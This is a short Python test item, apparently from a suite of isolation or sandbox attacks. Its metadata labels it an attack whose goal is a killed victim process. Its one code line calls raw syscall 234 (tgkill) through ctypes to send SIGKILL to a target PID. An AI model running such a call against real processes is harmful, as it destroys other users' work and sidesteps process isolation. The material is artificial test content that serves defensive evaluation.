# id: sg_thread
# kind: attack
# category: signals
# win: victim-killed
# machine: x86_64
# note: kill it by way of its thread
import ctypes
ctypes.CDLL(None).syscall(234, VICTIM_PID, VICTIM_PID, 9)
